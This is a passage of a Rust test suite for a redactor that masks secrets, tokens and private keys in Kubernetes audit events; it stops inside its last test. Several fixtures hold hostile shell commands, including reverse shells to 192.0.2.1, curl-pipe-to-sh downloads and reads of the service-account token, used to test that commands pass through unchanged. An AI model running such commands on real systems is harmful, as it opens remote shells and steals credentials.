//! What is taken out, and what is left, one text after the other.

use expect_test::{Expect, expect};
use proptest::prelude::*;
use proptest::sample::select;

use super::*;

const JWT: &str = "eyJhbGciOiJSUzI1NiIsImtpZCI6IkViIn0.eyJpc3MiOiJrdWJlcm5ldGVzIiwic3ViIjoieCJ9.c2lnbmF0dXJlLW9mLXRoZS10b2tlbg";
const PEM: &str = "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA0Z3VS5JJcds3xfn/ygWyF8PbnGy0AHB7MhgwMbRvI0MBZhpI\nzIzXO0n1Dlkzy3\n-----END RSA PRIVATE KEY-----\n";

fn redactor() -> Redactor {
    thread_local! {
        static BUILT: Redactor = Redactor::new(&Rules::default(), &DigestKey::new([7; 32]));
    }
    BUILT.with(Clone::clone)
}

fn event(resource: &str, body: &str) -> String {
    format!(
        r#"{{"kind":"Event","verb":"create","requestURI":"/x","objectRef":{{"resource":"{resource}"}},"requestObject":{body}}}"#
    )
}

fn redacted(event: &str) -> String {
    let mut redactor = redactor();
    let view = EventView::parse(event.as_bytes()).unwrap();
    let redacted = redactor.redact(&view).into_owned();
    let new = EventView::parse(&redacted).unwrap();
    new.validate().unwrap();
    let twice = redactor.redact(&new);
    assert_eq!(
        String::from_utf8_lossy(&twice),
        String::from_utf8_lossy(&redacted),
        "not the same the second time"
    );
    String::from_utf8(redacted).unwrap()
}

/// A request's body about such a resource; digests are cut to four digits.
fn body(resource: &str, body: &str, expected: &Expect) {
    let redacted = redacted(&event(resource, body));
    let start = redacted.find("\"requestObject\":").unwrap() + 16;
    expected.assert_eq(&shortened(&redacted[start..redacted.len() - 1]));
}

/// A text somewhere in a body.
fn text(text: &str, expected: &Expect) {
    let body = serde_json::json!({ "a": [text] }).to_string();
    let redacted = redacted(&event("pods", &body));
    let new: serde_json::Value = serde_json::from_str(&redacted).unwrap();
    expected.assert_eq(&shortened(new["requestObject"]["a"][0].as_str().unwrap()));
}

fn uri(uri: &str, expected: &Expect) {
    let redacted = redacted(&serde_json::json!({ "kind": "Event", "requestURI": uri }).to_string());
    let new: serde_json::Value = serde_json::from_str(&redacted).unwrap();
    expected.assert_eq(&shortened(new["requestURI"].as_str().unwrap()));
}

fn shortened(text: &str) -> String {
    let digits = regex::Regex::new("(redacted:[a-z0-9-]+:[0-9a-f]{4})[0-9a-f]{12}").unwrap();
    digits.replace_all(text, "$1").into_owned()
}

#[test]
fn signatures_in_a_query_and_comments_in_a_manifest() {
    uri(
        "/api/v1/proxy/x?sv=1&sig=abcdefghijklmnopqrstuvwxyz0123456789%3D",
        &expect!["/api/v1/proxy/x?sv=1&sig=redacted:azure:4a17"],
    );
    text(
        "kind: Secret\ndata:\n  a: Yg==\n# more\n{{- if .x }}\n  c: ZA==\nend: x\n",
        &expect![[r#"
        kind: Secret
        data:
          a: redacted:secret:a3d0
        # more
        {{- if .x }}
          c: redacted:secret:716e
        end: x
    "#]],
    );
}

#[test]
fn an_empty_line_says_nothing_of_where_the_keys_stand() {
    let manifest = "kind: Secret\ndata:\n      \n  file: |\n    a: b\n";
    let told = redacted(&event("pods", &serde_json::json!({ "a": manifest }).to_string()));
    assert!(!told.contains("a: "), "{told}");
}

#[test]
fn a_patch_names_what_it_sets_by_its_path() {
    body(
        "configmaps",
        r#"[{"op":"add","path":"/data/db~1password","value":"hunter2"},{"value":"k","path":"/spec/api_key","op":"test"},{"op":"add","path":"/spec/secretName","value":"db"}]"#,
        &expect![[
            r#"[{"op":"add","path":"/data/db~1password","value":"redacted:password:326e"},{"value":"redacted:key:b762","path":"/spec/api_key","op":"test"},{"op":"add","path":"/spec/secretName","value":"db"}]"#
        ]],
    );
}

#[test]
fn names_in_any_letters_and_with_trailing_marks() {
    for name in [
        "PASS",
        "Pass",
        "DB.PASS",
        "Db_Pass",
        "userPassWord",
        "passPhrase",
        "API_KEY_",
        "API_KEY--",
        "API-KEY-",
    ] {
        let told = redacted(&event("configmaps", &format!(r#"{{"data":{{"{name}":"hunter2"}}}}"#)));
        assert!(!told.contains("hunter2"), "{told}");
        let told = redacted(&event("pods", &format!(r#"{{"env":[{{"name":"{name}","value":"hunter2"}}]}}"#)));
        assert!(!told.contains("hunter2"), "{told}");
    }
}

#[test]
fn the_schemes_of_an_authorization_header() {
    for scheme in ["Bearer", "bearer", "Bearer ", "ApiKey", "Splunk", "GenieKey", "OAuth"] {
        let header = format!("curl -H 'Authorization: {scheme} abc.DEF-123456' https://a");
        let told = redacted(&event("pods", &serde_json::json!({ "a": header }).to_string()));
        assert!(
            told.contains(&format!("{scheme} redacted:token:8bb1")) && !told.contains("abc.DEF"),
            "{told}"
        );
    }
}

#[test]
fn a_latency_is_no_secret() {
    let event = r#"{"kind":"Event","requestURI":"/x","annotations":{"apiserver.latency.k8s.io/authorization":"3.625µs"}}"#;
    assert_eq!(redacted(event), event);
}

/// A text that holds `hunter2` and must not hold it any more.
fn hides(text: &str) {
    let told = redacted(&event("configmaps", &serde_json::json!({ "data": { "a": text } }).to_string()));
    assert!(!told.contains("hunter2"), "{text}\n{told}");
}

/// A text that must be left as it is.
fn leaves(text: &str) {
    let event = event("configmaps", &serde_json::json!({ "data": { "a": text } }).to_string());
    assert_eq!(redacted(&event), event);
}

#[test]
fn names_that_are_numbered_or_run_together() {
    for name in [
        "PASSWORD1",
        "DB_PASSWORD_2",
        "token2",
        "clientSecret01",
        "DBPASS",
        "dbPass",
        "bindpw",
        "SECRET_KEY_BASE",
        "DB_PASSWORDS",
        "GITHUB_PAT",
        "SECURE_AUTH_SALT",
        "LOGGED_IN_KEY",
        "DD_APP_KEY",
    ] {
        hides(&format!("export {name}=hunter2"));
    }
    for name in ["API_KEYS", "apiKeys", "DB_CREDS", "creds", "RABBITMQ_ERLANG_COOKIE", "X-Amz-Signature"] {
        hides(&format!("x {name}=hunter2 y"));
    }
    for left in [
        "FILE_PATH=/x/y z",
        "pat=x",
        "SALT_MASTER=a",
        "BYPASS=1",
        "byPass=1",
        "COMPASS=north",
        "key1=value",
        "sha256=abc",
        "cookie=a",
        "signature=b",
    ] {
        leaves(left);
    }
}

/// Rules look for what a command does.
#[test]
fn of_a_command_only_the_secret_is_taken() {
    uri(
        "/api/v1/namespaces/a/pods/b/exec?command=sh&command=-c&command=PASS%3Dhunter2%3Bbash+-i+%3E%26+%2Fdev%2Ftcp%2F192.0.2.1%2F443",
        &expect![
            "/api/v1/namespaces/a/pods/b/exec?command=sh&command=-c&command=PASS%3Dredacted:password:326e%3Bbash+-i+%3E%26+%2Fdev%2Ftcp%2F192.0.2.1%2F443"
        ],
    );
    body(
        "pods",
        r#"{"spec":{"containers":[{"command":["sh","-c"],"args":["TOKEN=hunter2 curl http://h/x | sh\nexport PASSWORD=hunter2; mkfifo /tmp/f"],"lifecycle":{"preStop":{"exec":{"command":["sh","-c","password: hunter2 rest"]}}}}]}}"#,
        &expect![[
            r#"{"spec":{"containers":[{"command":["sh","-c"],"args":["TOKEN=redacted:token:326e curl http://h/x | sh\nexport PASSWORD=redacted:password:326e; mkfifo /tmp/f"],"lifecycle":{"preStop":{"exec":{"command":["sh","-c","password: redacted:password:326e rest"]}}}}]}}"#
        ]],
    );
}

/// A command that must be left as it is, whatever it looks like: rules look into it.
fn leaves_command(command: &str) {
    let event = event(
        "pods",
        &serde_json::json!({ "spec": { "containers": [{ "command": ["sh", "-c", command] }] } }).to_string(),
    );
    assert_eq!(redacted(&event), event);
}

#[test]
fn commands_that_only_speak_of_secrets() {
    for command in [
        r#"grep -r "password=" / ; bash -i >& /dev/tcp/192.0.2.1/443 0>&1"#,
        r#"read -p "Password: " P; bash -i >& /dev/tcp/192.0.2.1/443 0>&1"#,
        "TOKEN=`cat /var/run/secrets/kubernetes.io/serviceaccount/token`; curl https://a",
        "export TOKEN=\"`curl http://192.0.2.1/x | sh`\"",
        "vault login jwt=@/var/run/secrets/kubernetes.io/serviceaccount/token",
        "token=open('/var/run/secrets/kubernetes.io/serviceaccount/token')",
        "curl -d token=$token https://a",
        "kubectl get cm -o yaml | grep password: | base64 -d; if true; then\n  bash -i\nfi",
        "TOKEN='bash -i >& /dev/tcp/192.0.2.1/443 0>&1'; sh -c \"$TOKEN\"",
        "echo ${API_TOKEN:-} ${API_TOKEN:+set} ${API_TOKEN:?missing}",
        "mysql --password -e 'select 1'",
        "x --with-token <<< a",
        "x --token 2>/dev/null",
        "curl http://token:8080/x && docker run token:1",
        "docker run -v $PWD:/host a",
    ] {
        leaves_command(command);
    }
    let args =
        r#"{"args":["--use-service-account-credentials","--allocate-node-cidrs=true","--token","--other"]}"#;
    let event = event("pods", args);
    assert_eq!(redacted(&event), event);
    uri(
        "/api/v1/namespaces/a/services/http:token:8080/proxy/x?labelSelector=token%3Dtrue%2Capp%3Dweb",
        &expect![
            "/api/v1/namespaces/a/services/http:token:8080/proxy/x?labelSelector=token%3Dtrue%2Capp%3Dweb"
        ],
    );
    hides("TOKEN=${TOKEN:-hunter2}\n");
    hides("db.password=${DB_PASSWORD:hunter2}\n");
    hides("echo ${API_TOKEN:-hunter2} x");
}

#[test]
fn a_name_a_blank_and_a_value() {
    hides("<match a>\n  password hunter2\n  hec_token hunter2\n</match>\n");
    hides("CREATE ROLE a WITH LOGIN PASSWORD 'hunter2';");
    hides("  proxy_set_header X-Api-Key \"hunter2\";\n");
    hides("  HTTP_Passwd hunter2\n");
    leaves("Password string\n");
    leaves("the token is good\npassword authentication\n");
    hides("password: |hunter2\n");
    hides("password: >hunter2\n");
}

#[test]
fn lists_tags_and_statements() {
    hides("CREATE USER 'app'@'%' IDENTIFIED BY 'hunter2';");
    hides("passwords: [\"hunter2\", \"b\"]\n");
    hides("passwords: [a, hunter2]\n");
    hides("spring.security.user.password={noop}hunter2\n");
    hides("userPassword: {SSHA}hunter2\n");
    hides("- key: password\n  value: hunter2\n");
    leaves("grep -E 'token=[A-Za-z]+' and token: {{ .Values.x }}");
    leaves("credentials: {a: b}\n");
}

#[test]
fn pairs_in_other_words() {
    for pair in [
        r#"{"clientSecret":{"value":"hunter2"}}"#,
        r#"{"a":{"password":"b","x":7,"apiToken":{"inline_string":"hunter2"}}}"#,
        r#"{"name":"password","default":"hunter2"}"#,
        r#"{"Key":"token","Value":"hunter2"}"#,
        r#"{"header":"Authorization","value":"hunter2"}"#,
        r#"[{"op":"add","path":"/spec/passwords/-","value":"hunter2"}]"#,
        r#"[{"op":"add","path":"/spec/password/value","value":"hunter2"}]"#,
    ] {
        let told = redacted(&event("widgets", pair));
        assert!(!told.contains("hunter2"), "{told}");
    }
    let told = redacted(&event("widgets", r#"{"password":98765432,"token":5}"#));
    assert!(!told.contains("98765432") && told.contains(r#""token":5"#), "{told}");
    hides(
        r#"spec.containers[0].env: core.EnvVar{Name:"DB_PASSWORD", Value:"hunter2", ValueFrom:(*core.X)(nil)}"#,
    );
}

#[test]
fn braces_of_other_languages_hide_no_object_and_no_text() {
    let objects = r#"kubectl apply -f - <<< '{"kind":"Secret","data":{"conn":"hunter2"}}'"#;
    hides(&format!("{objects}\n").repeat(200));
    let script = "# a Secret\nif true; then { echo a\n".repeat(70) + "password=$1\n";
    leaves(&script);
    hides(&format!("{script}\n{objects}"));
}

/// The endings of telling names, word by word.
const SPELLED: &[&str] = &[
    "password",
    "passwords",
    "bind pw",
    "passwd",
    "passphrase",
    "passcode",
    "pg pass",
    "db pass",
    "smtp pass",
    "store pass",
    "key pass",
    "require pass",
    "master auth",
    "password hash",
    "password base",
    "fernet key",
    "aes key",
    "jwt key",
    "unseal key",
    "service key",
    "shared key",
    "db key base",
    "otp key base",
    "pwd",
    "token",
    "token secret",
    "jwt",
    "authorization",
    "api key",
    "access key",
    "secret key",
    "private key",
    "account key",
    "signing key",
    "encryption key",
    "master key",
    "auth key",
    "app key",
    "license key",
    "session key",
    "logged in key",
    "nonce key",
    "certificate key",
    "secret key base",
    "api keys",
    "amz signature",
    "goog signature",
    "shared access signature",
    "erlang cookie",
    "hmac key",
    "storage key",
    "consumer key",
    "client key data",
    "pre shared key",
    "secret",
    "credential",
    "credentials",
    "creds",
];

/// Whatever a name tells the walk, the needles must see: in each spelling, and in each way to give a value.
#[test]
fn every_telling_name_is_seen_in_every_spelling() {
    let redactor = redactor();
    let encoded = |text: &str| {
        use base64::Engine as _;
        format!(r#"{{"a":"{}"}}"#, base64::engine::general_purpose::STANDARD.encode(text))
    };
    let (mut seen, mut missed) = (0, Vec::new());
    for (ending, _) in names::ENDINGS {
        let is_spelled = |words: &&&str| words.replace(' ', "").as_bytes() == *ending;
        let words =
            SPELLED.iter().find(is_spelled).unwrap_or_else(|| panic!("{ending:?} is not among those above"));
        let parts: Vec<&str> = words.split(' ').collect();
        let capital = |word: &str| word[..1].to_uppercase() + &word[1..];
        let camel = parts[0].to_owned() + &parts[1..].iter().copied().map(capital).collect::<String>();
        for name in [
            parts.concat(),
            parts.concat().to_uppercase(),
            camel,
            parts.iter().copied().map(capital).collect(),
            parts.join("_"),
            parts.join("-"),
            parts.join("."),
            parts.join("_").to_uppercase(),
            parts.join("_").to_uppercase() + "_2",
            "my-".to_owned() + &parts.join("-"),
        ] {
            assert!(redactor.needles.names().telling(name.as_bytes()).is_some(), "{name}");
            for text in [
                format!(r#"{{"{name}":"x"}}"#),
                format!(r#"{{"name":"{name}","value":"x"}}"#),
                format!(r#"{{"value":"x","name":"{name}"}}"#),
                format!(r#"{{"a":"{name}=x"}}"#),
                format!(r#"{{"a":"b\n{name}: x"}}"#),
                format!(r#"{{"a":"{{\"{name}\":\"x\"}}"}}"#),
                encoded(&format!("{name}=hunter22")),
                encoded(&format!("ab\n{name}: hunter22")),
                encoded(&format!("a {{\"{name}\": \"hunter22\"}}")),
            ] {
                seen += 1;
                if !redactor.suspects(text.as_bytes()) {
                    missed.push(text);
                }
            }
        }
    }
    assert!(seen > 1000 && missed.is_empty(), "{missed:#?}");
}

#[test]
fn a_value_goes_on_behind_a_comma_that_begins_no_other() {
    text("x password=hunter2,rest y", &expect!["x password=redacted:password:f4a4 y"]);
    text(
        "x --set a.password=hunter2,a.user=bob",
        &expect!["x --set a.password=redacted:password:326e,a.user=bob"],
    );
    text(
        "redis:6379,password=hunter2,ssl=true",
        &expect!["redis:6379,password=redacted:password:326e,ssl=true"],
    );
    text("{password: hunter2, user: bob}", &expect!["{password: redacted:password:326e, user: bob}"]);
    text("x password=hunter2; user=bob", &expect!["x password=redacted:password:326e; user=bob"]);
}

#[test]
fn passwords_in_urls_that_nobody_escaped() {
    text("x mongodb://u:hun,ter2@h/db", &expect!["x mongodb://u:redacted:url-password:b2cd@h/db"]);
    hides("postgres://app:7Gk/hunter2@db/app");
    leaves("etcd http://a:2379/x,http://b:2379/y@z");
    text("x postgres://u:hun@ter2@h/db", &expect!["x postgres://u:redacted:url-password:253f@h/db"]);
    text("x postgres://u:hun/ter2@h/db", &expect!["x postgres://u:redacted:url-password:b917@h/db"]);
    text("x postgres://u:hun#ter2@h/db?a=b", &expect!["x postgres://u:redacted:url-password:ba33@h/db?a=b"]);
    leaves("https://host:8080/@scope/package");
    leaves("https://host/a:b@c");
    leaves("http://$(HOST):$(PORT)/@x");
    leaves("http://[::1]:80/a@b");
    leaves("docker-pullable://r.example/web@sha256:0123456789abcdef");
}

#[test]
fn what_an_api_server_complains_about() {
    body(
        "foos",
        r#"{"kind":"Status","details":{"causes":[{"reason":"FieldValueInvalid","message":"Invalid value: \"hunter2\": too short","field":"spec.password"},{"field":"data[api-key]","message":"Unsupported value: \"hunter2\""},{"message":"Required value","field":"spec.token"},{"message":"Invalid value: \"left\"","field":"spec.name"}]}}"#,
        &expect![[
            r#"{"kind":"Status","details":{"causes":[{"reason":"FieldValueInvalid","message":"Invalid value: \"redacted:password:326e\": too short","field":"spec.password"},{"field":"data[api-key]","message":"Unsupported value: \"redacted:key:326e\""},{"message":"Required value","field":"spec.token"},{"message":"Invalid value: \"left\"","field":"spec.name"}]}}"#
        ]],
    );
}

#[test]
fn the_data_of_secrets_in_json_within_a_text() {
    text(
        r#"echo '{"data":{"conn":"hunter2"},"kind":"Secret"}' | kubectl apply -f -"#,
        &expect![[r#"echo '{"data":{"conn":"redacted:secret:326e"},"kind":"Secret"}' | kubectl apply -f -"#]],
    );
    hides("// two\n{\"kind\":\"Pod\"}\n{\"kind\":\"Secret\",\"stringData\":{\"a\":\"hunter2\"}}\n");
    hides("{ {{ x }} \n{\"kind\": \"Secret\", \"data\": {\"a\": \"hunter2\"}}");
    leaves(r#"echo '{"data":{"conn":"left"},"kind":"ConfigMap"}' of a Secret"#);
}

#[test]
fn the_data_of_secrets_in_other_yaml() {
    for manifest in [
        "\"kind\": Secret\n\"stringData\":\n  conn: hunter2\n",
        "'kind': 'Secret'\n'data':\n  conn: hunter2\n",
        "kind : Secret\nstringData :\n  conn: hunter2\n",
        "kind: Secret\ndata: &d\n  conn: hunter2\n",
        "{apiVersion: v1, kind: Secret, stringData: {conn: hunter2}}\n",
        "- {kind: Secret, data: {a: b, conn: hunter2}, type: Opaque}\n",
    ] {
        hides(manifest);
    }
    leaves("{kind: ConfigMap, data: {conn: left}}\n");
    text(
        "{kind: Secret, data: {\n  dsn: hunter2\n}, type: Opaque}\nuser: bob\n",
        &expect![[r#"
            {kind: Secret, data: redacted:secret:ed2a
              dsn: redacted:secret:326e
            }, type: Opaque}
            user: bob
        "#]],
    );
    hides("{data: {\n'dsn': hunter2\n}, kind: Secret}\n");
    hides("{kind: Secret, data: {a: \"x}y}hunter2\"}}\n");
}

#[test]
fn a_name_and_its_value_on_two_lines() {
    text(
        "env:\n- name: DB_PASSWORD\n  value: hunter2\n- name: OTHER\n  value: left\n",
        &expect![[r#"
        env:
        - name: DB_PASSWORD
          value: redacted:password:326e
        - name: OTHER
          value: left
    "#]],
    );
    hides("  - name: \"API_TOKEN\"\n    value: \"hunter2\"\n");
    leaves("- name: DB_PASSWORD\n  valueFrom:\n    secretKeyRef: {name: db}\n");
    leaves("- name: OTHER\n  value: left\n");
    hides("args:\n- --password\n- hunter2\n");
    hides("args:\n  - \"--api-key\"\n  - \"hunter2\"\n");
    leaves("args:\n- --password\n- --other\n");
}

#[test]
fn a_value_below_its_name() {
    text(
        "app:\n  password:\n    hunter2\n  user: bob\n",
        &expect![[r#"
            app:
              password:
                redacted:password:326e
              user: bob
        "#]],
    );
    text(
        "passwords:\n- hunter2\n- hunter3\nusers:\n- bob\n",
        &expect![[r#"
            passwords:
            - redacted:password:00fd
            users:
            - bob
        "#]],
    );
    hides("  api_keys:\n    - one\n    - \"hunter2\"\n");
    hides("password:\r\n  hunter2\r\n");
    leaves("credentials:\n  username: bob\n  file: x\n");
    leaves("credentials:\n- username: bob\n");
    leaves("token:\n\nuser: bob\n");
    leaves("password:\nuser: bob\n");
}

#[test]
fn a_value_above_its_name() {
    text(
        "env:\n- value: hunter2\n  name: DB_PASSWORD\n- value: left\n  name: OTHER\n",
        &expect![[r#"
            env:
            - value: redacted:password:326e
              name: DB_PASSWORD
            - value: left
              name: OTHER
        "#]],
    );
    hides("- value: 'hunter2'\n  name: 'DB_PASSWORD'");
    leaves("- value: left\n  other: x\n  name: DB_PASSWORD\n");
}

#[test]
fn what_a_function_is_called_with_and_what_a_word_before_says() {
    text(
        "define('DB_NAME', 'shop');\ndefine( 'DB_PASSWORD', 'hunter2' );\n",
        &expect![[r#"
            define('DB_NAME', 'shop');
            define( 'DB_PASSWORD', 'redacted:password:326e' );
        "#]],
    );
    hides("os.environ.setdefault(\"API_TOKEN\", \"hunter2\")");
    leaves("omit(user, [\"password\", \"name\"])");
    hides("FROM x\nENV DB_PASSWORD hunter2\n");
    hides("machine git.example login bob password hunter2");
    hides("machine git.example\nlogin bob\npassword hunter2\n");
    leaves("user login failed: password incorrect");
    leaves("login with password authentication");
}

#[test]
fn names_and_values_in_json_that_is_none() {
    hides(
        r#"kubectl patch deploy x -p '[{"op":"add","path":"/a","value":{"name":"DB_PASSWORD","value":"hunter2"}}]'"#,
    );
    hides(r#"curl -d "{\"name\": \"API_KEY\", \"value\": \"hunter2\"}" https://a"#);
    leaves(r#"x '{"name":"DB_PASSWORD","valueFrom":{"secretKeyRef":{"name":"a"}}}'"#);
}

#[test]
fn elements_and_their_attributes() {
    text(
        "<server>\n  <username>bob</username>\n  <password>hunter2</password>\n</server>\n",
        &expect![[r#"
            <server>
              <username>bob</username>
              <password>redacted:password:326e</password>
            </server>
        "#]],
    );
    for element in [
        "<password><![CDATA[hunter2]]></password>",
        "<property><name>fs.s3a.secret.key</name><value>hunter2</value></property>",
        "<name>api.key</name>\n  <value>\n hunter2\n</value>",
        "<property name=\"connection.password\">hunter2</property>",
        "<property name=\"password\" value=\"hunter2\"/>",
        "<add key='ApiKey' value='hunter2'/>",
        "<apiKey>hunter2</apiKey>",
    ] {
        hides(element);
    }
    leaves("usage: x --token <token> --url <url>");
    leaves("<password></password><passwordFile>/a</passwordFile>");
}

#[test]
fn values_with_quotes_and_brackets_in_them() {
    hides("password = \"\"\"hunter2\"\"\"\n");
    hides("password = '''\nhunter2\n'''\n");
    text("x --password=a\"hunter2 y", &expect!["x --password=redacted:password:95aa y"]);
    text("x --password=a)hunter2}b y", &expect!["x --password=redacted:password:1e55 y"]);
    text("f(password=hunter2) and", &expect!["f(password=redacted:password:326e) and"]);
    text("'a=b&password=hunter2' x", &expect!["'a=b&password=redacted:password:326e' x"]);
    leaves("password=${A}b token=<token>");
}

#[test]
fn tabs_around_the_sign() {
    hides("PASSWORD\t=\thunter2");
    hides("api_key\t=\thunter2");
    hides("- name: API_KEY\n  value: hunter2\n");
    hides("[client]\npassword\t:\thunter2\n");
    hides("mysql\\\n--password hunter2");
}

#[test]
fn more_credentials_by_their_looks() {
    let long = "0123456789abcdef".repeat(4);
    for credential in [
        format!("K10{long}::server:{long}"),
        format!("token-abcde:{}", &long[..54]),
        format!("whsec_{}", &long[..32]),
        format!("dckr_oat_{}", &long[..32]),
        format!("hf_{}", &long[..34]),
        format!("glrtr-{}", &long[..20]),
        format!("https://h/x?a=b&amp;sig={}", &long[..44]),
        format!("https://u:{}@git.example/", long.repeat(20)),
        format!("dapi{}", &long[..32]),
        format!("xoxc-{}", &long[..20]),
        format!("ATATT3x{long}"),
        format!("tskey-auth-{}", &long[..30]),
        format!("https://discord.com/api/webhooks/1234567890/{long}"),
        format!("gsk_{}", &long[..52]),
        format!("AKCp{long}"),
    ] {
        let told = redacted(&event(
            "configmaps",
            &serde_json::json!({ "a": format!("x {credential} y") }).to_string(),
        ));
        let tail = credential.trim_end_matches("@git.example/");
        assert!(!told.contains(&tail[tail.len() - 16..]), "{told}");
    }
    leaves("see default-token-abcde");
    leaves("r.example/auth/token-exchange-service-controller-manager-operator-bundle:v1.2.3-20260101");
}

#[test]
fn private_keys_in_comments_and_programs() {
    let key = [
        "-----BEGIN RSA PRIVATE KEY-----",
        "MIIEpAIBAAKCAQEAhunter2",
        "hunter2Bn8lkzy3",
        "-----END RSA PRIVATE KEY-----",
    ];
    for between in ["\n# ", "\n> ", "\n * ", "\\n\"\n    \"", "\\n' +\n'", "\r\n"] {
        let text = format!("key = \"{}\"", key.join(between));
        hides(&text);
        hides(&text.replace("hunter2", "").replace("MIIEpAIB", "hunter2"));
    }
    hides(&format!("{}\n", [key[0], "Comment: <bob@shop.example>", "", key[1], key[3]].join("\n")));
}

#[test]
fn names_of_secrets_and_of_files() {
    for left in [
        r#"{"annotations":{"nginx.ingress.kubernetes.io/auth-secret":"shop/basic","nginx.ingress.kubernetes.io/auth-tls-secret":"shop/ca"}}"#,
        r#"{"spec":{"passwordSecret":"db-main","credentialsSecret":"aws.main"}}"#,
        r#"{"args":["--tls-private-key=/srv2/kubernetes/pki/apiserver.key"]}"#,
        r#"{"image":"registry.example/token:1"}"#,
    ] {
        let event = event("pods", left);
        assert_eq!(redacted(&event), event);
    }
    hides("image: r.example/token:1 and token: hunter2");
}

#[test]
fn the_data_of_secrets() {
    body(
        "secrets",
        r#"{"kind":"Secret","apiVersion":"v1","metadata":{"name":"db"},"data":{"password":"aHVudGVyMg==","n":null,"e":""},"stringData":{"password":"hunter2"},"type":"Opaque"}"#,
        &expect![[
            r#"{"kind":"Secret","apiVersion":"v1","metadata":{"name":"db"},"data":{"password":"redacted:secret:326e","n":null,"e":""},"stringData":{"password":"redacted:secret:326e"},"type":"Opaque"}"#
        ]],
    );
    body(
        "secrets",
        r#"{"kind":"SecretList","items":[{"metadata":{"name":"a"},"data":{"k":"aHVudGVyMg=="}}]}"#,
        &expect![[
            r#"{"kind":"SecretList","items":[{"metadata":{"name":"a"},"data":{"k":"redacted:secret:326e"}}]}"#
        ]],
    );
    // A merge patch, a strategic one, one that the API server will refuse.
    body(
        "secrets",
        r#"{"data":{"k":"aHVudGVyMg==","gone":null},"stringData":{"pin":1234,"deep":{"x":["y"]}}}"#,
        &expect![[
            r#"{"data":{"k":"redacted:secret:326e","gone":null},"stringData":{"pin":"redacted:secret:155a","deep":{"x":["redacted:secret:35af"]}}}"#
        ]],
    );
    // JSON patches, in whichever order their keys are.
    body(
        "secrets",
        r#"[{"op":"replace","path":"x/data/k","value":"aHVudGVyMg=="},{"value":{"k":"hunter2"},"path":"/stringData","op":"add"},{"op":"add","path":"/metadata/labels/a","value":"b"},{"op":"replace","path":"","value":{"data":{"k":"x"}}}]"#,
        &expect![[
            r#"[{"op":"replace","path":"x/data/k","value":"redacted:secret:326e"},{"value":{"k":"redacted:secret:326e"},"path":"/stringData","op":"add"},{"op":"add","path":"/metadata/labels/a","value":"b"},{"op":"replace","path":"","value":{"data":{"k":"redacted:secret:5b29"}}}]"#
        ]],
    );
    // What kubectl notes of what it applied, alphabetically: the kind comes after the data.
    body(
        "secrets",
        r#"{"metadata":{"annotations":{"kubectl.kubernetes.io/last-applied-configuration":"{\"apiVersion\":\"v1\",\"data\":{\"k\":\"aHVudGVyMg==\"},\"kind\":\"Secret\",\"metadata\":{\"name\":\"db\"}}\n"}},"data":{}}"#,
        &expect![[
            r#"{"metadata":{"annotations":{"kubectl.kubernetes.io/last-applied-configuration":"{\"apiVersion\":\"v1\",\"data\":{\"k\":\"redacted:secret:326e\"},\"kind\":\"Secret\",\"metadata\":{\"name\":\"db\"}}\n"}},"data":{}}"#
        ]],
    );
    // Secrets in other things.
    body(
        "pods",
        r#"{"kind":"List","items":[{"data":{"k":"aHVudGVyMg=="},"kind":"Secret"},{"kind":"ConfigMap","data":{"k":"left"}}]}"#,
        &expect![[
            r#"{"kind":"List","items":[{"data":{"k":"redacted:secret:326e"},"kind":"Secret"},{"kind":"ConfigMap","data":{"k":"left"}}]}"#
        ]],
    );
    body(
        "configmaps",
        r#"{"kind":"ConfigMap","data":{"m.json":"{\"kind\":\"Secret\",\"stringData\":{\"k\":\"v\"}}"}}"#,
        &expect![[
            r#"{"kind":"ConfigMap","data":{"m.json":"{\"kind\":\"Secret\",\"stringData\":{\"k\":\"redacted:secret:2a87\"}}"}}"#
        ]],
    );
    body(
        "x",
        r#"{"kind":"x","\u006bind":"\u0053ecret","d\u0061ta":{"k":"v"}}"#,
        &expect![[r#"{"kind":"x","\u006bind":"\u0053ecret","d\u0061ta":{"k":"redacted:secret:2a87"}}"#]],
    );
}

#[test]
fn the_data_of_secrets_in_yaml() {
    text(
        "apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\ndata:\n  k: aHVudGVyMg==\nstringData:\n  file: |\n    a: b\n    c\n  q: \"x\"\n---\nkind: ConfigMap\ndata:\n  k: left\n",
        &expect![[r#"
            apiVersion: v1
            kind: Secret
            metadata:
              name: db
            data:
              k: redacted:secret:2aeb
            stringData:
              file: |
                redacted:secret:9749
                redacted:secret:39f3
              q: redacted:secret:4a2d
            ---
            kind: ConfigMap
            data:
              k: left
        "#]],
    );
    text(
        "cat <<EOF | kubectl apply -f -\nkind: \"Secret\"\nstringData: {k: v}\nEOF\n",
        &expect![[r#"
        cat <<EOF | kubectl apply -f -
        kind: "Secret"
        stringData: redacted:secret:fad2
        EOF
    "#]],
    );
    text(
        "apiVersion: v1\nkind: List\nitems:\n- kind: Secret\n  data:\n    k: v\n",
        &expect![[r#"
        apiVersion: v1
        kind: List
        items:
        - kind: Secret
          data:
            k: redacted:secret:2a87
    "#]],
    );
}

#[test]
fn tokens() {
    body(
        "serviceaccounts",
        &format!(
            r#"{{"kind":"TokenRequest","spec":{{"audiences":["a"],"expirationSeconds":3607}},"status":{{"token":"{JWT}","expirationTimestamp":"2026-01-01T00:00:00Z"}}}}"#
        ),
        &expect![[
            r#"{"kind":"TokenRequest","spec":{"audiences":["a"],"expirationSeconds":3607},"status":{"token":"redacted:jwt:34cc","expirationTimestamp":"2026-01-01T00:00:00Z"}}"#
        ]],
    );
    body(
        "tokenreviews",
        r#"{"kind":"TokenReview","spec":{"token":"opaque"},"status":{"user":{"username":"bob"}}}"#,
        &expect![[
            r#"{"kind":"TokenReview","spec":{"token":"redacted:secret:a0b5"},"status":{"user":{"username":"bob"}}}"#
        ]],
    );
    text(&format!("the token is {JWT}, keep it"), &expect!["the token is redacted:jwt:34cc, keep it"]);
    text(&format!("Authorization: Bearer {JWT}"), &expect!["Authorization: Bearer redacted:jwt:34cc"]);
    text(
        "curl -H 'Authorization: Bearer abc.DEF-123456' https://a",
        &expect!["curl -H 'Authorization: Bearer redacted:token:8bb1' https://a"],
    );
    text(&format!("{JWT}redacted:jwt:0123456789abcdef"), &expect!["redacted:jwt:9c9a"]);
    text(
        "uses bearer authentication, or basic authentication",
        &expect!["uses bearer authentication, or basic authentication"],
    );
    text("Basic dXNlcjpwYXNzd29yZA==", &expect!["Basic redacted:basic:29a2"]);
}

#[test]
fn private_keys() {
    text(
        PEM,
        &expect![[r#"
        -----BEGIN RSA PRIVATE KEY-----
